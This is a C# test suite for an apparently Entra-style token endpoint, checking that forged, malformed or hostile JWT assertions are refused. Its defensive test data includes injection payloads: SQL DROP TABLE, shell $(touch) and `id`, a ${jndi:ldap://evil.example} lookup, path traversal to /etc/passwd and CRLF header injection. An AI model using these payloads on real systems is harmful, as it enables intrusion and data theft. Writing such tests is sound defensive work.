using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Sallyport.Core.Wire;

namespace Sallyport.Server.Tests.Login;

/// <summary>A server with today's rules for tests that leave it as they found it; a good assertion has passed once.</summary>
public sealed class StrictServer : IAsyncLifetime
{
    public LoginServer Server { get; private set; } = null!;

    public async ValueTask InitializeAsync()
    {
        Server = await LoginServer.StartAsync(Core.Entra.Rules.RuleSet.Entra2026);
        Assert.Equal(0, await Server.ExchangeAsync(Server.Sign()));
    }

    public ValueTask DisposeAsync() => Server.DisposeAsync();
}

/// <summary>Attack cases at the token endpoint, by their ids in docs/security.md. What a case does not change is known to pass.</summary>
public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictServer>
{
    private readonly LoginServer server = strict.Server;

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    private long Now => server.Clock.GetUtcNow().ToUnixTimeSeconds();

    [Fact]
    [Trait("Passes", "J9")]
    public async Task J9_T2_one_tolerance_of_a_minute_for_exp_nbf_and_iat()
    {
        foreach (var (claim, seconds, code) in ((string, long, int)[])[
            ("exp", -58, 0), ("exp", -61, 700024), ("nbf", 58, 0), ("nbf", 63, 700024), ("iat", 58, 0), ("iat", 63, 700024)])
            Assert.True(code == await server.ExchangeAsync(server.Sign(c => c[claim] = Now + seconds)), $"{claim} {seconds}");
    }

    [Fact]
    public async Task J10_times_that_are_no_whole_seconds_of_the_calendar_are_refused()
    {
        foreach (var claim in (string[])["exp", "nbf", "iat"])
            foreach (var value in (object?[])["", $"{Now + 60}", Now + 0.5, -1, 9007199254740993 * 512, 1e300, true, new[] { Now }, new { at = Now }, 253402300800])
                Assert.True(await server.ExchangeAsync(server.Sign(c => c[claim] = value)) == 50027, $"{claim} {value}");
    }

    [Fact]
    [Trait("Passes", "J14")]
    public async Task J14_key_sets_hold_public_members_alone()
    {
        foreach (var (host, path) in ((string, string)[])[
            ("login.microsoftonline.com", "/common/discovery/v2.0/keys"), ("login.microsoftonline.com", "/common/discovery/keys"), ("gitlab.example.com", "/oauth/discovery/keys")])
        {
            using var client = server.Running.For(host);
            var keys = JsonNode.Parse(await client.GetStringAsync(path, Cancel))!["keys"]!.AsArray();
            Assert.NotEmpty(keys);
            Assert.All(keys, k => Assert.Empty(k!.AsObject().Select(m => m.Key).Intersect(["d", "p", "q", "dp", "dq", "qi", "k", "oth"])));
        }
    }

    [Fact]
    [Trait("Passes", "B3 T11")]
    public async Task B3_T11_a_subject_counts_with_its_issuer_alone()
    {
        await using var other = await TestIssuer.StartAsync();
        await using var own = await LoginServer.StartAsync(Core.Entra.Rules.RuleSet.Entra2026, other: other);
        await own.AddCredentialAsync(new { name = "elsewhere", issuer = other.Url, subject = "s", audiences = new[] { LoginServer.Audience } });
        Assert.Equal(0, await own.ExchangeAsync(own.Sign()));
        Assert.Equal(0, await own.ExchangeAsync(other.Sign(Elsewhere("s"))));
        Assert.Equal(700213, await own.ExchangeAsync(own.Sign(c => c["sub"] = "s")));
        Assert.Equal(700213, await own.ExchangeAsync(other.Sign(Elsewhere(LoginServer.Subject))));

        Dictionary<string, object?> Elsewhere(string subject) => new(own.Claims()) { ["iss"] = other.Url, ["sub"] = subject };
    }

    [Fact]
    [Trait("Passes", "B5 A2")]
    public async Task B5_A2_whatever_is_not_one_compact_token_is_refused()
    {
        var good = server.Sign();
        foreach (var bad in (string[])[$"{{\"jwt\":\"{good}\"}}", good + "," + good, good + " " + good, good + good, good + "." + good, good + "~", "\"" + good + "\"", good + "\u200B", "Bearer " + good, good + "\n", "[" + good + "]"])
            Assert.True(await server.ExchangeAsync(bad) == 50027, bad[^8..]);
        foreach (var other in "!#$%&'()*+,/:;<=>?@[\\]^`{|}~\u00e9\t ")
            Assert.True(await server.ExchangeAsync(good[..20] + other + good[20..]) == 50027, $"{other}");
        Assert.Equal(0, await server.ExchangeAsync(good));
    }

    [Fact]
    [Trait("Passes", "B6 J8 K7")]
    public async Task B6_J8_K7_encrypted_nested_and_JSON_tokens_are_refused()
    {
        var good = server.Sign();
        var (header, payload, signature) = good.Split('.') is [var h, var p, var g] ? (h, p, g) : default;
        var encrypted = new[] { "\"alg\":\"dir\"", "\"alg\":\"RSA-OAEP\"", "\"alg\":\"RSA1_5\"", "\"alg\":\"ECDH-ES\",\"epk\":{}", "\"alg\":\"A128KW\"", "\"alg\":\"PBES2-HS256+A128KW\",\"p2c\":2147483647,\"p2s\":\"AAAA\"" }
            .Select(alg => StrictBase64Url.Encode(Encoding.UTF8.GetBytes($"{{{alg},\"enc\":\"A256GCM\",\"zip\":\"DEF\"}}")));
        foreach (var part in encrypted)
            foreach (var bad in (string[])[$"{part}..AAAA.AAAA.AAAA", $"{part}.AAAA.AAAA.AAAA.AAAA", $"{part}.{payload}.{signature}"])
                Assert.True(await server.ExchangeAsync(bad) is 50027, bad);
        foreach (var bad in (string[])[
            $$"""{"payload":"{{payload}}","protected":"{{header}}","signature":"{{signature}}"}""", $$"""{"payload":"{{payload}}","signatures":[{"protected":"{{header}}","signature":"{{signature}}"}]}""",
            $$"""{"protected":"{{header}}","encrypted_key":"AAAA","iv":"AAAA","ciphertext":"AAAA","tag":"AAAA"}""", $$"""{"protected":"{{header}}","recipients":[{"encrypted_key":"AAAA"}],"iv":"AAAA","ciphertext":"AAAA","tag":"AAAA"}""",
            """{"payload":"e30","signatures":[]}"""])
            Assert.True(await server.ExchangeAsync(bad) == 50027, bad);
        foreach (var member in (string[])["\"cty\":\"JWT\"", "\"zip\":\"DEF\"", "\"enc\":\"A256GCM\"", "\"epk\":{}"])
            Assert.Equal(50027, await server.ExchangeAsync(server.Sign(header: $$"""{"alg":"RS256","kid":"test-key",{{member}}}""")));
        Assert.Equal(50027, await server.ExchangeAsync(server.Issuer.SignBytes("""{"alg":"RS256","kid":"test-key"}"""u8, Encoding.ASCII.GetBytes(good)))); // a token in a token
        Assert.Equal(0, await server.ExchangeAsync(good));
    }

    [Fact]
    [Trait("Passes", "J7 K2")]
    public async Task J7_K2_a_key_in_the_token_is_neither_used_nor_fetched()
    {
        await using var lure = await TestIssuer.StartAsync(); // serves the stranger's key, and the server may dial it
        await using var own = await LoginServer.StartAsync(other: lure);
        var key = JsonNode.Parse(lure.KeySet())!["keys"]![0]!.ToJsonString();
        foreach (var member in (string[])[
            $"\"jku\":\"{lure.Url}/keys\"", $"\"x5u\":\"{lure.Url}/keys\"", $"\"jwk\":{key}", $"\"x5c\":[\"{Certificate(lure)}\"]", $"\"jku\":\"{lure.Url}/keys\",\"jwk\":{key},\"x5t\":\"AAAA\",\"x5t#S256\":\"AAAA\""])
        {
            var header = $$"""{"alg":"RS256","kid":"{{TestIssuer.KeyId}}",{{member}}}""";
            Assert.True(await own.ExchangeAsync(lure.Sign(own.Claims(), header)) == 7000274, member);
            Assert.True(await own.ExchangeAsync(own.Sign(header: header)) == 0, member);
        }
        Assert.Equal(0, lure.Connections);
    }

    [Fact]
    [Trait("Passes", "J11")]
    public async Task J11_texts_are_compared_code_point_for_code_point_after_JSONs_escapes_are_undone()
    {
        const string composed = "project_path:caf\u00e9/\U0001F680:ref_type:branch:ref:main";
        await server.AddCredentialAsync(new { name = "composed", issuer = server.Issuer.Url, subject = composed, audiences = new[] { LoginServer.Audience } });
        var now = Now;
        foreach (var (subject, number) in ((string, int)[])[
            (composed, 0), (@"project_path:caf\u00e9/\uD83D\ude80:ref_type:branch:ref:main", 0), (@"\u0070roject_path:caf\u00e9\/\ud83d\ude80:ref_type:branch:ref:main", 0),
            ("project_path:cafe\u0301/\U0001F680:ref_type:branch:ref:main", 700213), ("project_path:caf\u00c9/\U0001F680:ref_type:branch:ref:main", 7002138), ("project_path:caf\u00e9/\U0001F680:ref_type:branch:ref:ma\u0131n", 700213),
            ("project_path:caf\u00e9/\U0001F680:ref_type:branch:ref:main\u200b", 700213), (@"project_path:caf\u00e9/\ud83d:ref_type:branch:ref:main", 50027)])
        {
            var payload = $$"""{"iss":"{{server.Issuer.Url}}","sub":"{{subject}}","aud":"{{LoginServer.Audience}}","iat":{{now}},"exp":{{now + 300}}}""";
            var code = await server.ExchangeAsync(server.Issuer.SignBytes("""{"alg":"RS256","kid":"test-key"}"""u8, Encoding.UTF8.GetBytes(payload)));
            Assert.True(code == number, $"{subject}: {code}");
        }
    }

    [Theory]
    [Trait("Passes", "B7 K8")]
    [InlineData("../../../../dev/null")]
    [InlineData("/proc/self/environ")]
    [InlineData("file:///etc/passwd")]
    [InlineData("' OR 1=1 --")]
    [InlineData("' UNION SELECT 1, 2 --")]
    [InlineData("'; DROP TABLE applications; --")]
    [InlineData("*)(uid=*))(|(uid=*")]
    [InlineData("$(touch /tmp/x)")]
    [InlineData("`id`")]
    [InlineData("${jndi:ldap://evil.example/x}")]
    [InlineData("{0}{Code}%n%s")]
    [InlineData("a\0b")]
    [InlineData("a\r\nHost: evil.example\r\n\r\n")]
    [InlineData("\u001b[31m\u2028\u202e")]
    public async Task B7_K8_hostile_text_in_a_claim_or_a_kid_is_text(string hostile)
    {
        foreach (var (claim, number) in ((string, int)[])[("iss", 700211), ("sub", 700213), ("aud", 700212), ("jti", 0), ("free", 0)])
            Assert.True(number == await server.ExchangeAsync(server.Sign(c => c[claim] = hostile)), claim);
        Assert.Equal(700027, await server.ExchangeAsync(server.Sign(header: new JsonObject { ["alg"] = "RS256", ["kid"] = hostile }.ToJsonString())));
        Assert.Equal(700016, await server.ExchangeAsync(server.Sign(), hostile.Replace("\0", "", StringComparison.Ordinal)));
        Assert.Equal(0, await server.ExchangeAsync(server.Sign()));
    }

    // An assertion's missing claim is no "invalid_client" in Microsoft Entra, but AADSTS90014 and "invalid_request".
    [Theory]
    [Trait("Passes", "A3 A5")]
    [InlineData("iss")]
    [InlineData("sub")]
    [InlineData("aud")]
    [InlineData("exp")]
    public async Task A3_A5_each_required_claim_is_required(string claim)
    {
        var texts = claim != "exp";
        (object? Value, int Number)[] cases =
            [(null, texts ? 90014 : 50027), ("", texts ? 90014 : 50027), (true, 50027), (new { }, 50027), (new object[] { 7 }, 50027), (new object?[] { null }, 50027), (1.5, 50027), (7, texts ? 50027 : 700024)];
        foreach (var (value, number) in cases)
        {
            var (code, error) = await RefusalAsync(server.Sign(c => c[claim] = value));
            Assert.True((code, error) == (number, number == 700024 ? "invalid_client" : "invalid_request"), $"{value}: {code} {error}");
        }
        Assert.Equal((90014, "invalid_request"), await RefusalAsync(server.Sign(c => c.Remove(claim))));
        Assert.Equal(0, await server.ExchangeAsync(server.Sign()));
    }

    [Fact]
    [Trait("Passes", "A5")]
    public async Task A5_an_invalid_signature_is_an_invalid_client()
    {
        var stranger = TestKeys.Named("stranger");
        Assert.Equal((7000274, "invalid_client"), await RefusalAsync(server.Issuer.Sign(server.Claims(), with: stranger)));
        Assert.Equal((7000274, "invalid_client"), await RefusalAsync(server.Sign()[..^8] + "AAAAAAAA"));
        Assert.Equal((700027, "invalid_client"), await RefusalAsync(server.Sign(header: """{"alg":"RS256","kid":"other"}""")));
        Assert.Equal(0, await server.ExchangeAsync(server.Sign()));
    }

    [Fact]
    [Trait("Passes", "A6")]
    public async Task A6_a_lifetime_of_25_hours_from_iat_to_exp_is_the_longest()
    {
        foreach (var issued in (long[])[Now, Now - 3600])
        {
            string Living(int seconds) => server.Sign(c => (c["iat"], c["exp"]) = (issued, issued + seconds));
            Assert.Equal(0, await server.ExchangeAsync(Living(90_000)));
            Assert.Equal(70023, await server.ExchangeAsync(Living(90_001)));
        }
        Assert.Equal(70023, await server.ExchangeAsync(server.Sign(c => c["exp"] = 253402300799)));
        Assert.Equal(70023, await server.ExchangeAsync(server.Sign(c => c.Remove("iat"))));
    }

    [Fact]
    [Trait("Passes", "A8")]
    public async Task A8_nothing_in_an_issuers_discovery_document_becomes_an_audience()
    {
        await using var own = await LoginServer.StartAsync(Core.Entra.Rules.RuleSet.Entra2026);
        const string elsewhere = "https://login.evil.example/token";
        own.Issuer.DiscoveryFault = _ => Microsoft.AspNetCore.Http.Results.Json(new
        {
            issuer = own.Issuer.Url, jwks_uri = own.Issuer.Url + "/keys", token_endpoint = elsewhere, audience = elsewhere, audiences = new[] { elsewhere },
        });
        Assert.Equal(0, await own.ExchangeAsync(own.Sign()));
        foreach (var audience in (string[])[elsewhere, own.Issuer.Url, own.Issuer.Url + "/keys"])
            Assert.Equal(700212, await own.ExchangeAsync(own.Sign(c => c["aud"] = audience)));
    }

    [Theory]
    [InlineData("JWT", 0)]
    [InlineData("jwt", 0)]
    [InlineData("client-authentication+jwt", 0)]
    [InlineData("at+jwt", 5002727)]
    [InlineData("dpop+jwt", 5002727)]
    [InlineData("logout+jwt", 5002727)]
    [Trait("Passes", "A9")]
    public async Task A9_the_type_is_absent_or_one_of_assertions(string type, int code) =>
        Assert.Equal(code, await server.ExchangeAsync(server.Sign(header: $$"""{"alg":"RS256","kid":"test-key","typ":"{{type}}"}""")));

    [Theory]
    [InlineData("{0}", 0)]
    [InlineData(" {0}", 700016)]
    [InlineData("{0}\n", 700016)]
    [InlineData("\u2003{0}\u00a0", 700016)]
    [InlineData("{{{0}}}", 700016)]
    [Trait("Passes", "A4")]
    public async Task A4_a_client_id_is_the_id_and_nothing_around_it(string form, int number) =>
        Assert.Equal(number, await server.ExchangeAsync(server.Sign(), string.Format(System.Globalization.CultureInfo.InvariantCulture, form, server.AppId)));

    [Fact]
    [Trait("Passes", "A4")]
    public async Task A4_a_tenant_is_its_id_and_nothing_around_it()
    {
        using var login = server.Running.For("login.microsoftonline.com");
        foreach (var (around, status) in ((string, HttpStatusCode)[])[("{0}", HttpStatusCode.OK), ("%20{0}", HttpStatusCode.BadRequest), ("{0}%C2%A0", HttpStatusCode.BadRequest), ("+{0}", HttpStatusCode.BadRequest)])
        {
            var tenant = string.Format(System.Globalization.CultureInfo.InvariantCulture, around, server.Running.Facts.TenantId);
            using var answer = await login.GetAsync($"/{tenant}/v2.0/.well-known/openid-configuration", Cancel);
            Assert.Equal(status, answer.StatusCode);
        }
    }

    [Fact]
    [Trait("Passes", "F8")]
    public async Task F8_tokens_of_dots_and_long_headers_are_refused_unread()
    {
        foreach (var bad in (string[])[new string('.', 60_000), new string('A', 60_000), server.Sign(header: $$"""{"alg":"RS256","kid":"{{new string('k', 50_000)}}"}""")])
        {
            using var answer = await server.PostAsync(bad);
            Assert.InRange((int)answer.StatusCode, 400, 413);
        }
        foreach (var large in (string[])[new string('.', 1_000_000), server.Sign(header: $$"""{"alg":"RS256","kid":"{{new string('k', 1_000_000)}}"}""")])
        {
            try
            {
                using var answer = await server.PostAsync(large);
                Assert.Equal(HttpStatusCode.RequestEntityTooLarge, answer.StatusCode);
            }
            catch (HttpRequestException closed)
            {
                Assert.IsType<IOException>(closed.InnerException, exactMatch: false); // the rest of it was not waited for
            }
        }
        Assert.Equal(0, await server.ExchangeAsync(server.Sign(c => c["free"] = new string('x', 30_000))));
    }

    private static string Certificate(TestIssuer of)
    {
        using var certificate = System.Security.Cryptography.X509Certificates.X509CertificateLoader.LoadCertificateFromFile(of.CaFile);
        return Convert.ToBase64String(certificate.RawData);
    }

    private async Task<(int Number, string? Error)> RefusalAsync(string assertion)
    {
        using var response = await server.PostAsync(assertion);
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync(Cancel))!;
        return response.IsSuccessStatusCode ? (0, null) : ((int)body["error_codes"]![0]!, (string?)body["error"]);
    }
}
